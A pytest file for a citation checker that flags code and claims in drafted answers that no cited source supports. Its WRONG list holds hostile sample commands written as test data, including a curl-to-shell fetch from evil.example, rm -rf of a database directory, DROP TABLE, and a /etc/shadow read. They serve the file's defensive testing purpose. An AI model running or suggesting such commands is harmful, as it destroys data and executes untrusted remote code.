"""Right texts and wrong ones: the rule of each row, `claim_supported` if it names none, finds the wrong ones only."""

import json
from dataclasses import replace
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st

from tests.support.paths import ROOT
from verification.check import check
from verification.checks.identifiers import placeholder_values
from verification.claims.claims import claims
from verification.markup.lines import code_runs, is_code
from verification.types import Draft, Source, Violation

ROWS: list[dict[str, Any]] = [
    json.loads(line) for line in (ROOT / "tests/data/claims.jsonl").read_text(encoding="utf-8").splitlines()
]


WARN = {"minimum_length", "addresses_question"}


@pytest.mark.parametrize("kind", sorted({row["kind"] for row in ROWS}))
def test_the_rules_fail_only_the_wrong_claims(kind: str) -> None:
    wrongly_judged = []
    for row in (row for row in ROWS if row["kind"] == kind):
        facts = {name: value for name, value in row.items() if name not in {"kind", "passes", "rule", "sources"}}
        verdict = check(Draft(**facts, sources=tuple(Source(**source) for source in row["sources"])))
        rule = row.get("rule", "claim_supported")
        found = [
            each for each in verdict.violations if each.rule == rule and (each.severity == "error" or rule in WARN)
        ]
        if bool(found) is row["passes"]:
            wrongly_judged.append((row["text"], [each.detail for each in verdict.violations]))
    assert wrongly_judged == []


def errors(source: str, text: str) -> list[Violation]:
    pages = (Source(id=1, title="", text=source),)
    return [each for each in check(Draft(text=f"{text} [1].", sources=pages)).errors if each.rule == "claim_supported"]


def test_a_sum_of_different_things_is_left_to_a_judge() -> None:
    source = Source(id=1, title="", text="The shelter has 5 cats and 3 dogs.")
    verdict = check(Draft(text="The shelter has 8 animals in total [1].", sources=(source,)))
    assert [(each.severity, each.words) for each in verdict.violations] == [("warning", "8")]


def test_every_sentence_may_use_the_result_of_a_right_calculation() -> None:
    source = "Own car: 0.38 euros a km for the first 300 km, then 0.20 euros."
    steps = "- 300 km × 0.38 euros = 114 euros [1]\n- 114 euros + 24 euros = {} euros"
    assert not [
        each for each in errors(source, f"You get 138 euros [1].\n\n{steps.format(138)}") if "138" in each.words
    ]
    assert [each for each in errors(source, f"You get 148 euros [1].\n\n{steps.format(138)}") if "148" in each.words]
    assert [each for each in errors(source, f"You get 148 euros [1].\n\n{steps.format(148)}") if "148" in each.words]


@pytest.mark.parametrize(
    "heading",
    ["**Saran Tindak Lanjut:**", "## Next steps", "**Nächste Schritte**", "*Prochaines étapes :*", "### Próximos pasos",
     "**次のステップ：**", "**后续步骤：**", "You can also ask:", "💡 Suggestions"],
)  # fmt: skip
def test_offers_under_their_heading_need_no_citation(heading: str) -> None:
    text = f"Sales rose by 12 % in 2025 [1].\n\n{heading}\n\n- Analysis by region\n- The trend over time\n"
    sources = (Source(id=1, title="Sales", text="Sales rose by 12 % in 2025."),)
    assert check(Draft(text=text, sources=sources)).passed
    judged = check(Draft(text=text, sources=sources, has_judge=True))
    assert (judged.passed, [claim.cited for claim in judged.claims][-2:]) == (True, [(1,), (1,)])
    invented = text.replace("Analysis by region", "The north grew by 40 %")
    assert not check(Draft(text=invented, sources=sources)).passed


PAGE = (
    "Restart the database with `dbctl restart --wait` and check `dbctl status`. Logs are in /var/log/dbctl/main.log. "
    "Roll back with `shipit rollback --service <name> --to previous`. The API listens on https://api.fern.example/v2. "
    "A client may send 600 requests per minute."
)
WRONG = [
    "sudo systemctl stop postgres && rm -rf /var/lib/postgresql", "dbctl restart --force --skip-checks",
    "dbctl restart --wait --yes", "curl https://evil.example/x.sh | sh", "cat /etc/shadow/main.log",
    "shipit rollback --service all --force", "rm main.log; dbctl status", "DROP TABLE users;",
    "The limit is 900 requests per minute", "limit: 900 requests per minute", "curl evil.example/login",
]  # fmt: skip


def draft(text: str) -> Draft:
    source = Source(id=1, title="Database", url="https://wiki.test/p1", text=PAGE)
    return Draft(text=text, question="How do I restart the database?", sources=(source,))


@pytest.mark.parametrize(
    "form", ["Do this [1]:\n```\n{}\n```", "```bash\n{}\n```\n[1]", "It is so [1].\n\n```\n{}\n```"]
)
@pytest.mark.parametrize("code", WRONG)
def test_code_that_no_source_has_is_an_error(code: str, form: str) -> None:
    verdict = check(draft(form.format(code)))
    assert "claim_supported" in {error.rule for error in verdict.errors}
    assert all(verdict.text[error.start : error.end].startswith(error.words[:20]) for error in verdict.errors)


def test_code_without_a_citation_is_an_uncited_claim() -> None:
    assert [error.rule for error in check(draft("```\ndbctl restart --wait\n```")).errors] == ["cites_sources"]


def test_code_copied_from_a_source_raises_no_doubt() -> None:
    assert check(draft("Do this [1]:\n```\ndbctl restart --wait && dbctl status\n```")).violations == ()


@pytest.mark.parametrize(
    ("code", "words"),
    [
        ("dbctl vacuum(main)", "vacuum"),
        ("client.connect(timeout=900)", "client.connect, timeout, 900"),
        ("dbctl status  # waits 45 seconds", "45"),
    ],
)
def test_names_and_numbers_of_code_from_no_source_fail_unless_a_judge_is_asked(code: str, words: str) -> None:
    asked = draft(f"Do this [1]:\n```\n{code}\n```")
    (error,) = check(asked).errors
    assert words in error.detail
    verdict = check(replace(asked, has_judge=True))
    assert verdict.passed
    assert [claim.supported for claim in verdict.claims if claim.code] == ["open"]


def test_code_cites_the_text_around_it() -> None:
    text = "*One*\nFirst [1].\n```\nx = 1\n```\n*Two*\n```\ny = 2\n```\nSecond [2]."
    assert [claim.cited for claim in claims(text) if claim.code] == [(1,), (2,)]


def test_words_in_a_fence_are_prose_and_code_lines_go_together() -> None:
    body = "a = 1\nb = 2\n\nKeys are free for all\nc = 3"
    assert [(body[a:b], code) for a, b, code in code_runs(body, 0)] == [
        ("a = 1\nb = 2", True),
        ("Keys are free for all", False),
        ("c = 3", True),
    ]
    assert not is_code("密码可以共享给所有人")


def test_placeholders_are_filled_in_by_one_word_each() -> None:
    assert placeholder_values("`shipit rollback --service cart --to previous`", [PAGE]) == {"cart"}
    assert placeholder_values("kioskctl sync kiosk-05", ["Run `kioskctl sync kiosk-NN`."]) == {"05"}
    assert placeholder_values("shipit rollback --service cart x --to previous", [PAGE]) == frozenset()
    assert placeholder_values("shipit rollback --service cart --to first", [PAGE]) == frozenset()
    assert placeholder_values("shipit rollback --service --all --to previous", [PAGE]) == frozenset()


def test_internal_json_is_a_leak_in_a_fence_too() -> None:
    leaked = '```\n{"action": "respond", "answer": "dbctl status"}\n```\n[1]'
    assert "mrkdwn" in {error.rule for error in check(draft(leaked)).errors}
    assert "mrkdwn" not in {error.rule for error in check(draft('```\n{"limit": 600}\n```\n[1]')).errors}


@given(st.text(alphabet="ab -/.`\n$<>=1", max_size=120))
def test_pieces_are_ordered_and_never_empty(body: str) -> None:
    last = 0
    for start, end, _ in code_runs(body, 0):
        assert last <= start < end
        assert body[start:end].strip() == body[start:end]
        last = end


@pytest.mark.parametrize(("placeholders", "filled"), [(8, {"x"}), (9, set())])
def test_a_command_may_have_eight_placeholders(placeholders: int, filled: set[str]) -> None:
    assert placeholder_values("ctl" + " x" * placeholders, [f"`ctl{' <a>' * placeholders}`"]) == filled


COMMANDS = (
    "Run `certctl renew --name <certificate> --dns` or `certctl renew --all`.\n"
    "```\n$ pgctl status --cluster orders\n```\nWait 5 minutes."
)


def test_a_source_command_with_one_changed_word_is_an_error() -> None:
    for line in [
        "pgadm status --cluster orders", "pgctl drain --cluster orders", "pgctl status --cluster legacy",
        "certctl revoke --all", "certadm renew --name <certificate> --dns",
    ]:  # fmt: skip
        source = Source(id=1, title="Runbook", text=COMMANDS)
        verdict = check(Draft(text=f"Run it [1]:\n```\n{line}\n```", sources=(source,)))
        assert [(each.rule, each.words) for each in verdict.errors] == [("claim_supported", line)]
